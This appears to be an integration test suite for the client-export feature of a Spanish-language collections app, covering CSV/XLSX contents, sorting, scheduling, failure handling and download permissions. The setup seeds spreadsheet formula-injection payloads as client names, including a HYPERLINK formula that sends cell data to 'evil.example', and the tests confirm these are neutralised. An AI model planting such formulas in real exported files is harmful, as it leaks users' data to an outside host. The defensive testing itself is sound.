import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { and, desc, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { columnsFor, findClientRow, pickColumns } from '../../src/clients/queries.js';
import { clients } from '../../src/clients/schema.js';
import { rows } from '../../src/db/index.js';
import { downloadColumns } from '../../src/exports/clients.js';
import { exportSource } from '../../src/exports/registry.js';
import { failStuckExports, runExport } from '../../src/exports/service.js';
import { storageFor } from '../../src/storage/index.js';
import { todayIn } from '../../src/platform/dates.js';
import { translator } from '../../src/platform/i18n/index.js';
import { mailMessages } from '../../src/platform/mail/schema.js';
import { neutralizeFormula } from '../../src/platform/spreadsheets/write.js';
import { fileProcesses } from '../../src/process-log/schema.js';
import { clientVariables } from '../../src/settings/schema.js';
import { tenants, type Tenant } from '../../src/tenants/schema.js';
import { forgetTenantCache } from '../../src/platform/tenancy.js';
import { addOrder, seedClient } from '../clients/support.js';
import { startTestApp, type Harness, type TestClient } from '../support/app.js';
import { addStaff, loggedIn, newTenant, type Staff } from '../support/factories.js';
import { importFile } from '../imports/support.js';
import { addClients, addManyClients, downloadCsv } from './support.js';

const libreoffice = (() => {
  try {
    execFileSync('libreoffice', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();
if (!libreoffice) console.warn('\n  LibreOffice check SKIPPED: no `libreoffice` on PATH (apt-get install libreoffice-calc).\n');

let h: Harness;
let acme: Tenant;
let admin: Staff;

beforeAll(async () => {
  h = await startTestApp({ jobs: true });
  acme = await newTenant(h);
  admin = await addStaff(h, acme, { role: 'admin' });
  await addClients(h, acme.id, [
    { name: 'María Peña', documentNumber: '01234567', segment: 'Premium' },
    { name: 'José Ávila', documentNumber: '00456789', segment: 'Premium' },
    { name: 'Otro Cliente', documentNumber: '99999999', segment: 'Básico' },
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', documentNumber: '11111111', segment: 'Premium' },
    { name: '+51 987', documentNumber: '22222222', segment: 'Premium' },
    { name: '-2+3', documentNumber: '33333333', segment: 'Premium' },
    { name: '@SUM(A1)', documentNumber: '44444444', segment: 'Premium' },
    { name: '\tcmd', documentNumber: '55555555', segment: 'Premium' },
  ]);
});
afterAll(() => h.close());

async function download(client: TestClient, format: 'csv' | 'xlsx', query: string) {
  const response = await client.post('/app/exports', { kind: 'clients', format, query });
  expect(response.status).toBe(303);
  expect(response.headers.get('Location')).toBe('/app/process-log');
  await h.runJobs();
  const [process] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, acme.id)).orderBy(desc(fileProcesses.id)).limit(1);
  expect(process!.state).toBe('completed');
  const file = await client.get(`/app/process-log/${process!.id}/files/result`);
  expect(file.status).toBe(200);
  // Named in the person's words.
  expect(file.headers.get('Content-Disposition')).toContain(`filename="clientes-${process!.id}.${format}"`);
  return { process: process!, body: Buffer.from(await file.arrayBuffer()) };
}

const saved = (body: Buffer, name: string) => {
  const path = join(mkdtempSync(join(tmpdir(), 'export-')), name);
  writeFileSync(path, body);
  return path;
};

describe('downloading the clients tray', () => {
  it('the csv holds exactly the rows of the current filters and the columns the user sees, formulas neutralised', async () => {
    const client = await loggedIn(h, acme, admin);
    const { body, process } = await download(client, 'csv', 'segment=Premium');
    const text = body.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe('Tipo de documento,Número de documento,Nombre,Correo electrónico,Teléfono,Segmento,Estado,Situación,Saldo total');
    expect(lines).toHaveLength(1 + 7);
    expect(text).not.toContain('Otro Cliente');
    expect(text).toContain('DNI,01234567,María Peña');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`);
    expect(text).toContain(`'+51 987`);
    expect(text).toContain(`'-2+3`);
    expect(text).toContain(`'@SUM(A1)`);
    expect(text).toContain(`'\tcmd`);
    expect(process.counts.rows).toBe(7);
  });

  it('with every column chosen, each row of the csv shows what the tray shows for that client', async () => {
    const tenant = await newTenant(h);
    const boss = await addStaff(h, tenant, { role: 'admin' });
    const sara = await addStaff(h, tenant, { role: 'supervisor', name: 'Sara Supervisora' });
    const luis = await addStaff(h, tenant, { role: 'advisor', name: 'Luis Asesor' });
    await h.db.insert(clientVariables).values({ tenantId: tenant.id, key: 'region', label: 'Región' });
    const ana = await seedClient(h, tenant, {
      name: 'Ana Peña', email: 'ana@correo.pe', phone: '+51987654321', segment: 'Premium', supervisorId: sara.id, advisorId: luis.id,
      contactAlerts: ['No llamar', 'Sin WhatsApp'], contactability: 'no_contactable', portfolio: 'castigada', additional: { region: 'Norte' },
    });
    await addOrder(h, tenant, ana, { dueDate: '2026-01-20', amount: 123_456 });
    const beto = await seedClient(h, tenant, { name: 'Beto Ávila', status: 'inactivo' });
    await addOrder(h, tenant, beto, { dueDate: '2026-03-15', amount: 5_000 });
    await seedClient(h, tenant, { name: 'Carla Sin Deuda' });
    const client = await loggedIn(h, tenant, boss);
    const chosen = columnsFor([{ key: 'region', label: 'Región' }]);
    expect((await client.post('/app/clients/columns', { columns: chosen.map((c) => c.key) })).status).toBe(303);
    const all = downloadColumns(chosen);

    const response = await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '' });
    expect(response.status).toBe(303);
    await h.runJobs();
    const [process] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id));
    expect(process!.state).toBe('completed');
    const body = await (await client.get(`/app/process-log/${process!.id}/files/result`)).text();
    const [headers, ...records] = parseCsv(body, { bom: true }) as string[][];
    const t = translator('es');
    expect(headers).toEqual(all.map((c) => c.heading ?? t(c.label)));
    const today = todayIn(tenant.timezone, h.clock);
    const stored = await h.db.select({ id: clients.id }).from(clients).where(eq(clients.tenantId, tenant.id)).orderBy(clients.id);
    const expected = await Promise.all(
      stored.map(async ({ id }) => {
        const row = (await findClientRow(h.db, tenant.id, id, today))!;
        // Amounts go out in the currency's units; text that looks like a formula with its apostrophe (a phone is a number, and keeps its +).
        return all.map((c) => {
          const value = c.value(row, t);
          return typeof value === 'string' ? neutralizeFormula(value) : c.key === 'totalBalance' ? (value / 100).toFixed(2) : String(value);
        });
      }),
    );
    expect(records).toEqual(expected);
    expect(records[0]).toEqual([
      'DNI', ana.documentNumber, 'Ana Peña', 'ana@correo.pe', '+51987654321', 'Premium', 'Activo', expected[0]![7], 'Sara Supervisora', 'Luis Asesor',
      expected[0]![10], 'No llamar, Sin WhatsApp', expected[0]![12], '1234.56', '49', 'Norte',
    ]);

    // The download uploads back as a file of clients: as it is, it changes nothing; with
    // another advisor written in, it reassigns the client.
    const roundTrip = async (name: string, bytes: Buffer) => (await importFile(h, client, name, bytes)).process;
    const csv = await roundTrip('clientes.csv', Buffer.from(body));
    expect(csv.counts, JSON.stringify(csv)).toMatchObject({ rows: 3, create: 0, update: 0, unchanged: 3, rejected: 0 });
    await client.post('/app/exports', { kind: 'clients', format: 'xlsx', query: '' });
    await h.runJobs();
    const [xlsx] = await h.db.select().from(fileProcesses).where(and(eq(fileProcesses.tenantId, tenant.id), eq(fileProcesses.kind, 'export'))).orderBy(desc(fileProcesses.id)).limit(1);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await (await client.get(`/app/process-log/${xlsx!.id}/files/result`)).arrayBuffer()) as ArrayBuffer);
    const asIs = Buffer.from(await workbook.xlsx.writeBuffer());
    const xlsxBack = await roundTrip('clientes.xlsx', asIs);
    expect(xlsxBack.counts, JSON.stringify(xlsxBack)).toMatchObject({ rows: 3, create: 0, update: 0, unchanged: 3, rejected: 0 });
    const sheet = workbook.worksheets[0]!;
    const advisorColumn = (sheet.getRow(1).values as unknown[]).indexOf('Asesor');
    sheet.getRow(3).getCell(advisorColumn).value = 'Luis Asesor';
    const edited = await roundTrip('reasignados.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(edited.counts, JSON.stringify(edited)).toMatchObject({ update: 1, unchanged: 2, rejected: 0 });
    const [reassigned] = await h.db.select().from(clients).where(eq(clients.id, beto.id));
    expect(reassigned).toMatchObject({ advisorId: luis.id, status: 'inactivo', name: 'Beto Ávila' });
  });

  it('lists the clients in the tray’s order, the sort travelling with "Descargar"', async () => {
    const tenant = await newTenant(h);
    const boss = await addStaff(h, tenant, { role: 'admin' });
    // More than a batch of the download, with balances and overdue dates that repeat and
    // clients that owe nothing (no overdue date: last when sorting by situation).
    await addManyClients(h, tenant.id, 2_300);
    await h.db.execute(sql`
      update clients set total_balance = (id * 7919) % 50 * 1000,
                         oldest_unpaid_due_date = case when id % 5 = 0 then null else date '2026-01-01' + ((id * 31) % 40)::int end
       where tenant_id = ${tenant.id}`);
    const client = await loggedIn(h, tenant, boss);
    const documents = async (query: string) => (await downloadCsv(h, client, tenant.id, 'clients', query)).lines.slice(1).map((line) => line.split(',')[1]);
    const expected = async (order: string) =>
      (await rows<{ document_number: string }>(h.db, sql`select document_number from clients where tenant_id = ${tenant.id} and deleted_at is null order by ${sql.raw(order)}`)).map(
        (r) => r.document_number,
      );

    const tray = await (await client.get('/app/clients?sort=balance&dir=desc&page=3')).text();
    expect(tray).toContain('name="query" value="sort=balance&amp;dir=desc"');
    expect(await documents('sort=balance&dir=desc')).toEqual(await expected('total_balance desc, id desc'));
    expect(await documents('')).toEqual(await expected('saldo_fold(name), id'));
    expect(await documents('sort=situation')).toEqual(await expected('oldest_unpaid_due_date asc nulls last, id'));
    expect(await documents('sort=situation&dir=desc&segment=A')).toEqual(
      (await expected('oldest_unpaid_due_date desc nulls first, id desc')).filter((d) => Number(d) % 2 === 0),
    );
  });

  it('the xlsx writes every value as a typed value, never a formula', async () => {
    const client = await loggedIn(h, acme, admin);
    const { body } = await download(client, 'xlsx', 'segment=Premium');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(8);
    const names: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      names.push(row.getCell(3).value);
    });
    expect(names).toContain('=HYPERLINK("http://evil.example/?x="&A1,"clic")');
    expect(body.includes(Buffer.from('<f>'))).toBe(false);
    // Amounts are numbers a spreadsheet shows with thousands and the currency's decimals.
    const balance = (sheet.getRow(1).values as unknown[]).indexOf('Saldo total');
    expect(balance).toBeGreaterThan(0);
    expect(typeof sheet.getRow(2).getCell(balance).value).toBe('number');
    expect(sheet.getRow(2).getCell(balance).numFmt).toBe('#,##0.00');
    // Wide enough for the formatted amount, which a spreadsheet shows as ### otherwise.
    expect(sheet.getColumn(balance).width).toBeGreaterThanOrEqual(16);
  });

  it.runIf(libreoffice)('an exported xlsx opens in LibreOffice', { timeout: 120_000 }, async () => {
    const client = await loggedIn(h, acme, admin);
    const { body } = await download(client, 'xlsx', 'segment=Premium');
    const path = saved(body, 'clientes.xlsx');
    const out = join(path, '..');
    execFileSync('libreoffice', ['--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', out, path], { stdio: 'ignore', timeout: 110_000 });
    const csv = readFileSync(join(out, 'clientes.csv'), 'utf8');
    expect(csv).toContain('María Peña');
    // The document number keeps its leading zeros.
    expect(csv).toContain('DNI,00456789');
    expect(csv.trimEnd().split('\n')).toHaveLength(8);
  });

  it('more than 50,000 rows asks for confirmation, then schedules the download for 02:00 tenant time', async () => {
    const big = await newTenant(h, { timezone: 'America/Lima' });
    const boss = await addStaff(h, big, { role: 'admin' });
    await addManyClients(h, big.id, 50_001);
    const client = await loggedIn(h, big, boss);

    const asked = await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '' });
    expect(asked.status).toBe(200);
    const page = await asked.text();
    expect(page).toContain('50,001');
    expect(page).toContain('Generar esta noche');
    expect(page).toContain('href="/app/clients"');
    expect(await h.db.$count(fileProcesses, eq(fileProcesses.tenantId, big.id))).toBe(0);

    const confirmed = await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '', confirm: '1' });
    expect(confirmed.status).toBe(303);
    const [process] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, big.id));
    // The clock is 2026-03-10 10:00 in Lima (UTC−5): the next 02:00 there is 07:00 UTC on the 11th.
    expect(process!.scheduledFor?.toISOString()).toBe('2026-03-11T07:00:00.000Z');
    const [job] = await rows<{ start_after: Date }>(h.db, sql`select start_after from pgboss.job where name = 'exports.run' and data->>'processId' = ${String(process!.id)}`);
    expect(new Date(job!.start_after).toISOString()).toBe('2026-03-11T07:00:00.000Z');
    const log = await (await client.get('/app/process-log')).text();
    expect(log).toContain('programado para');

    // The night run writes the columns the user had when confirming, whatever they chose since.
    expect((await client.post('/app/clients/columns', { columns: ['document', 'name'] })).status).toBe(303);
    await runExport(h.deps, { tenantId: big.id, processId: process!.id });
    const [done] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.id, process!.id));
    expect(done!.state).toBe('completed');
    expect(done!.counts.rows).toBe(50_001);
    const header = Buffer.from(await (await client.get(`/app/process-log/${process!.id}/files/result`)).arrayBuffer()).toString('utf8').split('\r\n')[0]!.replace(/^\uFEFF/, '');
    const t = translator('es');
    const defaults = downloadColumns(pickColumns([], columnsFor([]))).map((c) => t(c.label));
    expect(header.split(',')).toEqual(defaults);
    expect(defaults.length).toBeGreaterThan(3);
  }, 120_000); // 50,001 clients are made first: slow on the embedded database of a busy machine
});

describe('when a download cannot be written', () => {
  it('the parts of files a killed process left are removed a day later, and nothing else', async () => {
    const folder = join(h.config.dataDir, 'files', '999999');
    mkdirSync(folder, { recursive: true });
    const old = join(folder, 'a-clientes-1.csv.part');
    const fresh = join(folder, 'b-clientes-2.csv.part');
    const whole = join(folder, 'c-clientes-3.csv');
    for (const path of [old, fresh, whole]) writeFileSync(path, 'x');
    const twoDaysAgo = new Date(Date.now() - 2 * 86_400_000);
    utimesSync(old, twoDaysAgo, twoDaysAgo);
    utimesSync(whole, twoDaysAgo, twoDaysAgo);
    expect(await storageFor(h.config).sweepParts(new Date(Date.now() - 86_400_000))).toBe(1);
    expect([old, fresh, whole].map((path) => existsSync(path))).toEqual([false, true, true]);
  });


  it('a download whose tries all ended without a word is marked failed by the hourly maintenance', async () => {
    const tenant = await newTenant(h);
    const admin = await addStaff(h, tenant, { role: 'admin' });
    const client = await loggedIn(h, tenant, admin);
    expect((await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '' })).status).toBe(303);
    const [process] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id));
    // Its process killed on the last try, five hours ago; another asked for just now waits its turn.
    await h.db.update(fileProcesses).set({ state: 'running', startedAt: new Date(h.clock.now().getTime() - 5 * 3600_000) }).where(eq(fileProcesses.id, process!.id));
    expect((await client.post('/app/exports', { kind: 'clients', format: 'csv', query: 'q=x' })).status).toBe(303);
    // One running for three hours, on a try pg-boss still waits for, is left to run.
    expect((await client.post('/app/exports', { kind: 'clients', format: 'csv', query: 'q=y' })).status).toBe(303);
    const [, , long] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id)).orderBy(fileProcesses.id);
    await h.db.update(fileProcesses).set({ state: 'running', startedAt: new Date(h.clock.now().getTime() - 3 * 3600_000) }).where(eq(fileProcesses.id, long!.id));
    await failStuckExports(h.db, h.clock.now());
    const all = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id)).orderBy(fileProcesses.id);
    expect(all.map((p) => p.state)).toEqual(['failed', 'queued', 'running']);
    expect(all[0]!.error).toBe('exports.error.failed');
  });


  it('waits for the next try leaving nothing behind, and after the last the Process log says it failed', async () => {
    const tenant = await newTenant(h);
    const admin = await addStaff(h, tenant, { role: 'admin' });
    const client = await loggedIn(h, tenant, admin);
    await addClients(h, tenant.id, [{ name: 'Ana Uno', documentNumber: '10000001' }]);
    // The tenant's folder taken by a file: the storage cannot write there (a full or broken disk alike).
    mkdirSync(join(h.config.dataDir, 'files'), { recursive: true });
    writeFileSync(join(h.config.dataDir, 'files', String(tenant.id)), 'not a folder');
    expect((await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '' })).status).toBe(303);
    const [process] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id));
    const data = { tenantId: tenant.id, processId: process!.id };

    await expect(runExport(h.deps, data, { retriesLeft: 1 })).rejects.toThrow();
    const [waiting] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.id, process!.id));
    expect(waiting).toMatchObject({ state: 'queued', resultKey: null });

    await expect(runExport(h.deps, data, { retriesLeft: 0 })).rejects.toThrow();
    const [failed] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.id, process!.id));
    expect(failed).toMatchObject({ state: 'failed', error: 'exports.error.failed', resultKey: null });
    const log = await (await client.get('/app/process-log')).text();
    expect(log).toContain('No pudimos generar la descarga');
    // Nothing runs any more: the row does not poll, and the page does not say a job runs.
    expect(log).not.toContain('hx-trigger="every 2s"');
    expect(log).not.toContain('<noscript>');
  });
});

describe('who may download', () => {
  it('a user without reports.download cannot ask for a download nor fetch one, and nothing is created', async () => {
    const client = await loggedIn(h, acme, admin);
    const { process } = await download(client, 'csv', '');
    const before = await h.db.$count(fileProcesses, eq(fileProcesses.tenantId, acme.id));
    const supervisor = await addStaff(h, acme, { role: 'supervisor', revoke: ['reports.download'] });
    const refused = await loggedIn(h, acme, supervisor);
    expect((await refused.post('/app/exports', { kind: 'clients', format: 'csv', query: '' })).status).toBe(403);
    expect((await refused.get(`/app/process-log/${process.id}/files/result`)).status).toBe(404);
    expect(await h.db.$count(fileProcesses, eq(fileProcesses.tenantId, acme.id))).toBe(before);
  });

  it('another tenant gets a 404 for this tenant’s files', async () => {
    const client = await loggedIn(h, acme, admin);
    const { process } = await download(client, 'csv', '');
    const other = await newTenant(h);
    const stranger = await loggedIn(h, other, await addStaff(h, other, { role: 'admin' }));
    expect((await stranger.get(`/app/process-log/${process.id}/files/result`)).status).toBe(404);
    expect((await stranger.get(`/app/process-log/${process.id}/row`)).status).toBe(404);
  });

  it('the emailed link is signed: it opens for a signed-in user who may see the download, not without a session, not on another tenant, not once expired, not after the permission is gone', async () => {
    const client = await loggedIn(h, acme, admin);
    await download(client, 'csv', 'segment=Básico');
    const [mail] = await h.db.select().from(mailMessages).where(and(eq(mailMessages.tenantId, acme.id), eq(mailMessages.to, admin.email))).orderBy(desc(mailMessages.id)).limit(1);
    expect(mail!.subject).toBe('Tu descarga está lista');
    // It says what was downloaded, and how many rows in words.
    expect(mail!.text).toMatch(/Tu descarga de clientes \((1 fila|\d[\d,]* filas)\) está lista/);
    const link = /http:\/\/[^\s]+\/app\/files\/[^\s]+/.exec(mail!.text)![0];
    const path = new URL(link).pathname;

    // A link forwarded outside the company opens nothing: it asks to sign in, and comes back.
    const anonymous = h.client(acme);
    const asked = await anonymous.get(path);
    expect(asked.status).toBe(303);
    expect(asked.headers.get('Location')).toBe(`/app/login?next=${encodeURIComponent(path)}`);
    // Links sent before they moved under /app still lead there.
    const old = await anonymous.get(path.replace('/app/files/', '/files/'));
    expect([old.status, old.headers.get('Location')]).toEqual([301, path]);

    const file = await client.get(path);
    expect(file.status).toBe(200);
    expect(await file.text()).toContain('Otro Cliente');

    const other = await newTenant(h);
    const stranger = await loggedIn(h, other, await addStaff(h, other, { role: 'admin' }));
    expect((await stranger.get(path)).status).toBe(404);
    expect((await client.get(`${path.slice(0, -2)}xx`)).status).toBe(404);

    h.clock.advance(8 * 86_400_000);
    expect((await (await loggedIn(h, acme, admin)).get(path)).status).toBe(404);
    h.clock.advance(-8 * 86_400_000);

    const { users } = await import('../../src/users/schema.js');
    await h.db.update(users).set({ permissionOverrides: { 'reports.download': false } }).where(eq(users.id, admin.id));
    expect((await (await loggedIn(h, acme, admin)).get(path)).status).toBe(403);
    await h.db.update(users).set({ permissionOverrides: {} }).where(eq(users.id, admin.id));
  });

  it('a download shows in the Process log, and opens, only for users who could have asked for it; without receivables, only one’s own', async () => {
    const tenant = await newTenant(h);
    const boss = await addStaff(h, tenant, { role: 'admin' });
    await addClients(h, tenant.id, [{ name: 'Dato Sensible', documentNumber: '44556677' }]);
    const client = await loggedIn(h, tenant, boss);
    expect((await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '' })).status).toBe(303);
    expect((await client.post('/app/exports', { kind: 'claims', format: 'csv', query: '' })).status).toBe(303);
    await h.runJobs();
    const bosses = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id));
    const clientsFile = bosses.find((p) => p.subject === 'clients')!;
    const claimsFile = bosses.find((p) => p.subject === 'claims');
    expect((await client.get(`/app/process-log/${clientsFile.id}/files/result`)).status).toBe(200);

    // Claims and downloads, but not Cuentas por cobrar.
    const reader = await addStaff(h, tenant, { role: 'advisor', grant: ['claims.view', 'reports.download'], revoke: ['receivables'] });
    const browser = await loggedIn(h, tenant, reader);
    const log = await (await browser.get('/app/process-log')).text();
    expect(log).toContain('<h1');
    // No upload button for one who may not upload.
    expect(log).not.toContain('href="/app/imports/new"');
    expect(log).not.toContain(`process-${clientsFile.id}"`);
    expect(log).not.toContain(`process-${claimsFile!.id}"`);
    expect((await browser.get(`/app/process-log/${clientsFile.id}/files/result`)).status).toBe(404);
    expect((await browser.get(`/app/process-log/${clientsFile.id}/row`)).status).toBe(404);
    expect((await browser.get(`/app/process-log/${claimsFile!.id}/files/result`)).status).toBe(404);
    // Their own claims download they see and open.
    const asked = await browser.post('/app/exports', { kind: 'claims', format: 'csv', query: '' });
    expect([asked.status, asked.headers.get('Location')]).toEqual([303, '/app/process-log']);
    await h.runJobs();
    const all = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id));
    const own = all.find((p) => p.userId === reader.id)!;
    expect(own, JSON.stringify(all.map((p) => [p.id, p.userId, p.subject, p.state]))).toBeDefined();
    const ownLog = await (await browser.get('/app/process-log')).text();
    expect(ownLog).toContain(`process-${own.id}"`);
    // Its user filter offers only themselves, not the colleagues whose entries it hides.
    expect(ownLog).toContain(`<option value="${reader.id}"`);
    expect(ownLog).not.toContain(`<option value="${boss.id}"`);
    expect(own, JSON.stringify(own)).toMatchObject({ state: 'completed' });
    const opened = await browser.get(`/app/process-log/${own.id}/files/result`);
    expect(opened.status, await opened.clone().text()).toBe(200);

    // One who works the claims tray with claims.edit alone downloads what it shows too.
    const editor = await addStaff(h, tenant, { role: 'advisor', grant: ['claims.edit', 'reports.download'], revoke: ['receivables', 'claims.view'] });
    const editing = await loggedIn(h, tenant, editor);
    expect(await (await editing.get('/app/claims')).text()).toContain('name="kind" value="claims"');
    const theirs = await editing.post('/app/exports', { kind: 'claims', format: 'csv', query: '' });
    expect([theirs.status, theirs.headers.get('Location')]).toEqual([303, '/app/process-log']);
    await h.runJobs();
    const editorsFile = (await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id))).find((p) => p.userId === editor.id)!;
    expect(editorsFile).toMatchObject({ subject: 'claims', state: 'completed' });
    expect(await (await editing.get('/app/process-log')).text()).toContain(`process-${editorsFile.id}"`);
    // Clients they may not see, they may not download.
    expect((await editing.post('/app/exports', { kind: 'clients', format: 'csv', query: '' })).status).toBe(403);

    // A supervisor with receivables sees everyone's.
    const supervisor = await loggedIn(h, tenant, await addStaff(h, tenant, { role: 'supervisor' }));
    const full = await (await supervisor.get('/app/process-log')).text();
    expect(full).toContain(`process-${clientsFile.id}"`);
    expect(full).toContain(`process-${own.id}"`);
    expect((await supervisor.get(`/app/process-log/${clientsFile.id}/files/result`)).status).toBe(200);
    expect(full).toContain(`<option value="${boss.id}"`);
  });

  it('a download made while an app was on stays in the Process log, with its file, once the app is off', async () => {
    const tenant = await newTenant(h);
    await h.db.update(tenants).set({ enabledApps: ['charged_off'] }).where(eq(tenants.id, tenant.id));
    forgetTenantCache();
    const boss = await addStaff(h, tenant, { role: 'admin' });
    const client = await loggedIn(h, tenant, boss);
    expect((await client.post('/app/exports', { kind: 'campaigns', format: 'csv', query: '' })).status).toBe(303);
    await h.runJobs();
    const [made] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, tenant.id));
    expect(made!.state).toBe('completed');
    await h.db.update(tenants).set({ enabledApps: [] }).where(eq(tenants.id, tenant.id));
    forgetTenantCache();
    expect((await client.get('/app/campaigns')).status).toBe(404);
    expect(await (await client.get('/app/process-log')).text()).toContain(`process-${made!.id}"`);
    expect((await client.get(`/app/process-log/${made!.id}/files/result`)).status).toBe(200);
  });
});

describe('where a download goes back to', () => {
  it('is the page it was asked from, with its filters, for every kind the tenant has', async () => {
    await import('../../src/exports/service.js');
    const tenant = { enabledApps: ['charged_off'] } as unknown as Tenant;
    const back = (kind: string, query: Record<string, string>) => exportSource(kind, tenant)?.trayPath(query);
    expect(back('clients', { situation: 'mora_1_30' })).toBe('/app/clients?situation=mora_1_30');
    expect(back('orders', { product: 'Crédito vehicular' })).toBe('/app/orders?product=Cr%C3%A9dito+vehicular');
    expect(back('claims', {})).toBe('/app/claims');
    expect(back('campaigns', { campaign: 'NAVIDAD' })).toBe('/app/campaigns?campaign=NAVIDAD');
    expect(back('interactions', { client: '12' })).toBe('/app/clients/12/interactions');
    expect(back('interactions', { client: '../x' })).toBe('/app/clients');
    expect(exportSource('campaigns', { enabledApps: [] } as unknown as Tenant)).toBeUndefined();
    expect(exportSource('nothing', tenant)).toBeUndefined();
  });
});
